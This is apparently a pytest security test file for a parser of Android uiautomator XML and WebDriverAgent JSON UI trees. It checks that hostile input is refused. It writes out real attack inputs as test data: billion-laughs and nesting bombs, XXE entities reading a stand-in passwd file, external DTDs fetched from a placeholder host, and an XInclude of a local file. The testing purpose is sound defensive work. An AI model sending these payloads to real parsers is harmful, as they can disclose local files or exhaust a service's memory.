"""Hostile, broken and unrecognised input fails fast with SceneParseError and reads nothing else.

A canary file stands in for /etc/passwd: no Scene, error message or source may ever contain its
text. The loopback-only guard in tests/conftest.py turns any network attempt into a failure.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from amc.core.errors import SceneParseError
from amc.drivers.hierarchy import parse_source
from amc.drivers.hierarchy.common import Limits
from amc.drivers.hierarchy.xml_source import parse_xml

from tests.parsers.support import fixture

SECRET = "canary-7f3a9c-do-not-read"


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    path = tmp_path / "passwd"
    path.write_text(f"root:x:0:0:{SECRET}:/root:/bin/sh\n")
    return path


def _refused(source: str | bytes, match: str, **kwargs: object) -> SceneParseError:
    with pytest.raises(SceneParseError, match=match) as info:
        parse_source(source, **kwargs)  # type: ignore[arg-type]
    assert SECRET not in str(info.value)
    return info.value


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE hierarchy [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + str(i - 1 if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10)
    )
    + ']>\n<hierarchy rotation="0"><node text="&lol9;" bounds="[0,0][1,1]"/></hierarchy>'
)


def test_billion_laughs_is_refused() -> None:
    err = _refused(BILLION_LAUGHS, "DOCTYPE")
    assert err.position == "byte 22"


def test_external_entity_to_a_local_file_is_refused(canary: Path) -> None:
    source = (
        f'<?xml version="1.0"?><!DOCTYPE h [<!ENTITY xxe SYSTEM "file://{canary}">]>'
        '<hierarchy rotation="0"><node text="&xxe;" bounds="[0,0][1,1]"/></hierarchy>'
    )
    _refused(source, "DOCTYPE")


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE hierarchy SYSTEM "http://203.0.113.7/evil.dtd">',
        '<!DOCTYPE hierarchy PUBLIC "-//X//EN" "https://203.0.113.7/x.dtd">',
        '<!DOCTYPE h [<!ENTITY % remote SYSTEM "http://203.0.113.7/p.dtd"> %remote;]>',
        "<!ENTITY x 'y'>",
        "<!doctype hierarchy>",
    ],
)
def test_external_dtds_and_entity_declarations_are_refused(doctype: str) -> None:
    _refused(f'<?xml version="1.0"?>\n<!-- note -->\n{doctype}<hierarchy rotation="0"/>', "DOCTYPE")


def test_the_parser_itself_opens_no_file_even_past_the_doctype_check(canary: Path) -> None:
    # Second line of defence: call the parser directly, skipping the DOCTYPE refusal.
    for doc in (
        f'<!DOCTYPE h SYSTEM "{canary}"><hierarchy rotation="0"/>',
        f'<!DOCTYPE h [<!ENTITY % p SYSTEM "file://{canary}"> %p;]><hierarchy rotation="0"/>',
        f'<!DOCTYPE h [<!ENTITY x SYSTEM "file://{canary}">]><hierarchy><node text="&x;"/></hierarchy>',
    ):
        with pytest.raises(SceneParseError) as info:
            parse_xml(doc.encode(), "uiautomator", Limits())
        assert SECRET not in str(info.value)


def test_entity_references_without_a_doctype_are_errors() -> None:
    err = _refused('<hierarchy rotation="0"><node text="&xxe;" bounds="[0,0][1,1]"/></hierarchy>', "xxe")
    assert err.format == "uiautomator" and err.position == "line 1:42"


def test_deep_nesting_stops_at_the_depth_limit() -> None:
    depth = 100_000
    source = "<hierarchy>" + "<node>" * depth + "</node>" * depth + "</hierarchy>"
    err = _refused(source, "deeper than 256")
    assert err.format == "uiautomator"


def test_a_lower_depth_limit_applies_to_xml_and_json() -> None:
    nested = "<hierarchy>" + '<node bounds="[0,0][1,1]">' * 20 + "</node>" * 20 + "</hierarchy>"
    assert len(parse_source(nested)) == 21
    _refused(nested, "deeper than 10", max_depth=10)
    tree: dict[str, object] = {"type": "Other"}
    for _ in range(20):
        tree = {"type": "Other", "children": [tree]}
    _refused(json.dumps(tree), "deeper than 10", max_depth=10)


def test_huge_attribute_is_refused() -> None:
    huge = '<hierarchy><node text="' + "A" * 11_000_000 + '" bounds="[0,0][1,1]"/></hierarchy>'
    _refused(huge, "malformed XML")


def test_input_over_the_size_limit_is_refused_before_parsing() -> None:
    err = _refused(b"<hierarchy>" + b" " * 2048 + b"</hierarchy>", "over the 1024-byte limit", max_bytes=1024)
    assert err.position == "byte 1024"
    _refused("<hierarchy>" + " " * 2048 + "</hierarchy>", "over the 1024-byte limit", max_bytes=1024)


def test_wide_bomb_is_refused_by_the_element_limit() -> None:
    bomb = "<hierarchy>" + '<node bounds="[0,0][1,1]"/>' * 300_000 + "</hierarchy>"
    _refused(bomb, "more than 250000 elements")
    _refused("<hierarchy>" + "<node/>" * 200 + "</hierarchy>", "more than 100 elements", max_elements=100)


@pytest.mark.parametrize(
    ("data", "match"),
    [
        (b"", "empty"),
        (b"   \r\n\t ", "empty"),
        ("", "empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not valid UTF-8|starts with"),
        (bytes(range(256)) * 4, "not valid UTF-16-BE"),  # b"\x00\x01" looks like UTF-16
        (b"\xff\xfe\x00", "not valid UTF-16"),  # odd-length UTF-16
        (b"hello world", "starts with"),
        (b"[1, 2, 3]", "starts with"),
        (b"<html><body>502 Bad Gateway</body></html>", "unrecognised UI tree: root element <html>"),
        (b"<?xml version='1.0'", "unterminated XML declaration"),
        (b"<!-- never closed", "unterminated comment"),
        (b"<>", "no root element"),
    ],
)
def test_garbage_is_refused(data: bytes | str, match: str) -> None:
    _refused(data, match)


def test_non_text_input_is_refused() -> None:
    _refused(12345, "must be str or bytes")  # type: ignore[arg-type]


def test_lone_surrogates_in_text_are_refused() -> None:
    err = _refused('<hierarchy><node text="\udc80"/></hierarchy>', "cannot be encoded")
    assert err.position == "char 23"


@pytest.mark.parametrize(
    "name", ["u2_settings_add_network_keyboard.xml", "wda_settings_wifi_alert_keyboard.xml"]
)
@pytest.mark.parametrize("fraction", [0.0001, 0.3, 0.999])
def test_truncated_xml_is_never_recovered(name: str, fraction: float) -> None:
    data = fixture(name)
    cut = data[: max(1, int(len(data) * fraction))]
    err = _refused(cut, "malformed XML|unterminated|no root element|empty")
    assert err.position is not None


def test_truncated_json_is_refused_with_a_line_and_column() -> None:
    data = fixture("wda_clock_alarms.json")
    err = _refused(data[: len(data) // 2], "malformed JSON")
    assert err.format == "wda-json" and str(err.position).startswith("line ")


def test_json_nesting_bomb_is_refused_without_recursion_error() -> None:
    arrays = '{"type":"Application","children":' + "[" * 200_000 + "]" * 200_000 + "}"
    objects = '{"a":' * 200_000 + "1" + "}" * 200_000
    for bomb in (arrays, objects):
        err = _refused(bomb, "nested too deeply")
        assert err.format == "wda-json"
    _refused("[" * 200_000, "not an XML tag or a JSON object")  # a bare array is no UI tree


def test_json_wide_bomb_is_refused_by_the_element_limit() -> None:
    kids = ",".join(['{"type":"Other"}'] * 300_000)
    _refused('{"type":"Application","children":[' + kids + "]}", "more than 250000 elements")


@pytest.mark.parametrize(
    ("doc", "match", "position"),
    [
        ({"value": 3}, "holds int", "$"),
        ({"sessionId": "s"}, "without a 'type'", "$"),
        ({"type": "Application", "children": {"type": "Window"}}, "'children' is not a list", "$"),
        (
            {"type": "Application", "children": [{"type": "Window"}, {"name": "x"}]},
            "string 'type'",
            "$.children[1]",
        ),
        (
            {"type": "Application", "children": [{"type": "Window", "children": [7]}]},
            "string 'type'",
            "$.children[0].children[0]",
        ),
    ],
)
def test_json_that_is_not_a_wda_tree_is_refused(doc: object, match: str, position: str) -> None:
    err = _refused(json.dumps(doc), match)
    assert err.format == "wda-json" and err.position == position


def test_json_reply_wrapping_more_json_is_refused() -> None:
    _refused(json.dumps({"value": json.dumps({"type": "Application"})}), "wraps more JSON")


def test_malformed_android_bounds_name_the_element() -> None:
    err = _refused(
        '<hierarchy><node class="a.B" bounds="[0,0][1,1]"><node bounds="[0,0]x"/></node></hierarchy>',
        "bounds",
    )
    assert err.position == "element 3" and err.format == "uiautomator"


def test_appium_aut_without_an_application_is_refused() -> None:
    _refused("<AppiumAUT></AppiumAUT>", "holds no application")


def test_xinclude_stays_an_inert_element(canary: Path) -> None:
    source = (
        '<hierarchy xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'<xi:include href="{canary}" parse="text"/></hierarchy>'
    )
    scene = parse_source(source)
    (el,) = scene.root.children
    assert el.type == "{http://www.w3.org/2001/XInclude}include"
    assert SECRET not in repr(scene.to_dict()) and SECRET not in (scene.source or "")


@pytest.mark.parametrize(
    "bounds",
    ["[0,0][1,1", "1[0,0][1,1]", "[0,0]3[1,1]", "[,0][1,1]", "[0,0][1,]", "[a,0][1,1]", "[0;0][1,1]"],
)
def test_malformed_bounds_are_refused_naming_the_element(bounds: str) -> None:
    source = f'<hierarchy><node bounds="[0,0][9,9]"><node bounds="{bounds}"/></node></hierarchy>'
    err = _refused(source, "malformed bounds")
    assert err.format == "uiautomator" and err.position == "element 3"


def test_negative_and_spaced_bounds_still_parse() -> None:
    scene = parse_source(
        '<hierarchy><node bounds="[-2400,200][0,1080]"/><node bounds="[ 1, 2][3 ,4 ]"/>'
        "<node bounds='[5,6][7,8]'/></hierarchy>"
    )
    assert [tuple(w.bounds.to_dict().values()) for w in scene.root.children] == [
        (-2400, 200, 0, 1080),
        (1, 2, 3, 4),
        (5, 6, 7, 8),
    ]
